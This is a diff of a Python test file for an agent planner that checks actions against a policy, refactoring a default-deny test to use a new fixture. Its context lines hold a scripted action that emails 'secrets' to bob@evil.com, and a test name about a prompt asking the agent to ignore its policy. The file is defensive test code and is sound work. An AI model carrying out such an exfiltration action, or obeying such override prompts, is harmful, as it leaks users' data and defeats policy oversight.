@@ -12,8 +12,6 @@ from kestrel.agent.llm import ScriptedModel
 from kestrel.agent.planner import Budgets, LLMPlanner
 from kestrel.agent.rules import RulePlanner, parse_rules
 
-from .conftest import make_env
-
 FAN_ON = '{"action": "gpio.write", "args": {"actuator": "fan", "value": 1}}'
 MAIL_EVIL = '{"action": "send_email", "args": {"to": "bob@evil.com", "subject": "secrets"}}'
 RULES = """
@@ -122,15 +120,12 @@ def test_prompt_asking_to_ignore_the_policy_changes_nothing(env):
     assert all(d["decision"] == "deny" for d in env.records("policy.decision"))
 
 
-def test_no_policy_installed_denies_everything(state_dir):
-    env = make_env(state_dir, None)
-    try:
-        p, _ = planner(env, [FAN_ON, FAN_ON])
-        out = p.run("turn on the fan")
-        assert out.status == "refused" and env.executed == []
-        assert out.steps[0].decision.rule == "default-deny"
-    finally:
-        env.ledger.close()
+def test_no_policy_installed_denies_everything(env_with):
+    env = env_with(None)
+    p, _ = planner(env, [FAN_ON, FAN_ON])
+    out = p.run("turn on the fan")
+    assert out.status == "refused" and env.executed == []
+    assert out.steps[0].decision.rule == "default-deny"
 
 
 def test_step_budget(env):
